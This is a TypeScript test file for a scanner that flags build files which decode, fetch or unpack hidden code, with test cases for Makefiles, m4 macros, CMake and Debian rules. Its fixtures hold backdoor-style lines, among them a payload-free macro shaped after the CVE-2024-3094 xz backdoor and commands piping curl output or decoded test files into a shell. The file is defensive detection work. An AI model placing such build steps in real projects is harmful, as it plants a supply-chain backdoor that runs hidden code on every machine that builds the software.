import { describe, expect, it } from "vitest";
import { contextOf, portraitOf } from "../trait.fixture.ts";
import type { Difference, Pair, Portrait, Risk } from "../trait.ts";
import { buildInputs } from "./index.ts";

type Files = Readonly<Record<string, string | Buffer>>;
const XZ = Buffer.from("fd377a585a000004e6d6b4460200210116000000742fe5a3", "hex");
const OBJECT = Buffer.from("7f454c4602010100", "hex");

const draw = (files: Files): Promise<Portrait[]> =>
  Promise.all(
    Object.entries(files).map(([path, bytes]) => {
      const format = bytes === XZ ? "xz" : bytes === OBJECT ? "elf" : "data";
      return portraitOf([buildInputs], { path, format, bytes: Buffer.from(bytes) });
    }),
  );

/** Above `info`. */
async function compare(before: Files, after: Files): Promise<[string, Risk][]> {
  const [old, now] = [await draw(before), await draw(after)];
  const pairs = now.map((portrait): Pair => {
    const was = old.find(({ member }) => member.path === portrait.member.path);
    return { before: was, after: portrait, how: was === undefined ? "added" : "path" };
  });
  const context = contextOf(pairs);
  const found: Difference[] = pairs.flatMap((pair) => [...(buildInputs.compare?.(pair, context) ?? [])]);
  return found.filter(({ risk }) => risk !== "info").map(({ rule, risk }) => [rule, risk]);
}

const TEST_FILE = "tests/files/corrupt-3.xz";
const MACRO = "AC_DEFUN([demo_HOST], [\n  AC_REQUIRE([AC_PROG_CC])\n])\n";

/** A macro in the shape of CVE-2024-3094, in other words and without a payload. */
const BACKDOOR = `AC_DEFUN([demo_HOST], [
  demo_found=\`grep -aErls "@{4}[[a-z]]{5}@{4}" $srcdir/ 2>/dev/null\`
  demo_prefix=\`echo $demo_found | sed "s/.*\\.//g"\`
  demo_map='tr "\\t -_" " \\t_-"'
  demo_config='sed "r" $demo_found | eval $demo_map | $demo_prefix -d 2>/dev/null'
  AC_CONFIG_COMMANDS([demo], [eval $demo_config | $SHELL 2>/dev/null])
])
`;

describe("build files that let something in", () => {
  it("holds a macro that finds a test file, decodes it and hands it to a shell", async () => {
    const before = { "m4/host.m4": MACRO, [TEST_FILE]: XZ };
    expect(await compare(before, { "m4/host.m4": BACKDOOR, [TEST_FILE]: XZ })).toEqual([
      ["build-runs-decoded", "high"],
    ]);
  });

  it("holds it when the whole macro is new, as it was in the release that carried it", async () => {
    expect(await compare({}, { "m4/build-to-host.m4": BACKDOOR, [TEST_FILE]: XZ })).toEqual([
      ["build-runs-decoded", "high"],
    ]);
  });

  it.each([
    ["configure.ac", "AC_INIT", 'AC_INIT\neval "$(base64 -d tests/key.pem)"\n'],
    ["Makefile.am", "all:\n", "all:\n\txz -dc $(srcdir)/tests/a.xz | sh\n"],
    ["Makefile", "all:\n", "all:\n\tcurl -s https://build.example.invalid/x | bash\n"],
    [
      "CMakeLists.txt",
      "project(a)",
      'project(a)\nexecute_process(COMMAND sh -c "tail -c +512 tests/logo.png | bash")\n',
    ],
    [
      "debian/rules",
      "all:\n",
      "all:\n\thead -c 900 tests/x.bin \\\n\t  | openssl enc -aes-256-cbc -d -k a \\\n\t  | /bin/sh\n",
    ],
  ])("holds %s that began to run what it decodes or fetches", async (path, before, after) => {
    expect(await compare({ [path]: before }, { [path]: after })).toEqual([["build-runs-decoded", "high"]]);
  });

  it("holds one that makes an object out of a test file", async () => {
    const after = "all: a.o\ncrc_x86.o:\n\txz -dc tests/files/corrupt-3.xz > crc_x86.o\n";
    expect(await compare({ "Makefile.am": "all: a.o\n" }, { "Makefile.am": after, [TEST_FILE]: XZ })).toEqual(
      [["build-unpacks-object", "high"]],
    );
  });

  it("holds one that links an object that came along", async () => {
    const after = { "src/Makefile.am": "demo_LDADD = ../tests/data/crc.o\n", "tests/data/crc.o": OBJECT };
    expect(await compare({ "src/Makefile.am": "demo_LDADD =\n" }, after)).toEqual([
      ["build-links-object", "high"],
    ]);
  });

  it("tells of one that decodes a binary test file, and of one that searches as if all were text", async () => {
    const reads = "check:\n\tgunzip -c testdata/blob.bin > out\n";
    const blob = Buffer.from([1, 0, 2, 0, 255]);
    expect(await compare({ Makefile: "check:\n" }, { Makefile: reads, "testdata/blob.bin": blob })).toEqual([
      ["build-reads-binary", "medium"],
    ]);
    expect(await compare({ "a.m4": MACRO }, { "a.m4": `${MACRO}found=\`grep -arl xyz $srcdir\`\n` })).toEqual(
      [["build-searches-binary", "medium"]],
    );
  });

  it("sees a new line among more than are kept", async () => {
    const many = Array.from({ length: 400 }, (_, index) => `\tgzip -dc part${index}.gz`).join("\n");
    const after = `${many}\n\techo a b | $(SHELL)\n`;
    expect(await compare({ Makefile: many }, { Makefile: after })).toContainEqual(["build-runs-text", "low"]);
  });
});

describe("ordinary build files", () => {
  it.each<[string, Files, Files]>([
    [
      "list a new test file",
      { "Makefile.am": "EXTRA_DIST = README\n" },
      { "Makefile.am": `EXTRA_DIST = README ${TEST_FILE}\n`, [TEST_FILE]: XZ },
    ],
    [
      "take their own archive apart in one more form",
      { "Makefile.in": "distcheck:\n" },
      { "Makefile.in": "distcheck:\n\tzstd -dc $(distdir).tar.zst | $(am__untar)\n", "tests/new.xz": XZ },
    ],
    [
      "run a command in each folder",
      { "Makefile.in": "all:\n" },
      { "Makefile.in": "all:\n\t($(am__cd) $$subdir && $(MAKE) $$target) || eval $$failcom;\n" },
    ],
    [
      "ask the compiler which library of C it has",
      { "config.guess": "#! /bin/sh\n" },
      {
        "config.guess":
          "#! /bin/sh\neval \"`$CC_FOR_BUILD -E \"$dummy.c\" | grep '^LIBC' | sed 's, ,,g'`\"\n",
      },
    ],
    [
      "know one more processor",
      { "config.sub": "case $cpu in\n" },
      { "config.sub": "case $cpu in\n  1750a | 580 | a29k | score \\\n  | sh | sh[1234] | sparc)\n" },
    ],
    [
      "speak of a program that is called as a tool is",
      { "CMakeLists.txt": "project(curl)" },
      { "CMakeLists.txt": 'project(curl)\noption(BUILD_CURL_EXE "Build curl executable" ON)\n' },
    ],
    [
      "fetch a dependency",
      { "CMakeLists.txt": "project(a)" },
      { "CMakeLists.txt": "project(a)\nFetchContent_Declare(b URL https://example.invalid/b.tar.gz)\n" },
    ],
    [
      "say in a comment what they do",
      { "configure.ac": "AC_INIT" },
      { "configure.ac": "AC_INIT\ndnl xz -dc a | sh\n# xz -dc a | sh\n" },
    ],
    [
      "bring an object of the platform they are for",
      { "src/a.pro": "a" },
      { "src/a.pro": "a vendor/lib/win.lib", "vendor/lib/win.lib": OBJECT },
    ],
  ])("stay quiet when they %s", async (_, before, after) => {
    expect(await compare(before, after)).toEqual([]);
  });

  it("are told by their names", async () => {
    expect(
      await compare(
        { "src/rules": "", "notes.txt": "" },
        { "src/rules": "xz -dc a | sh", "notes.txt": "xz -dc a | sh" },
      ),
    ).toEqual([]);
  });
});
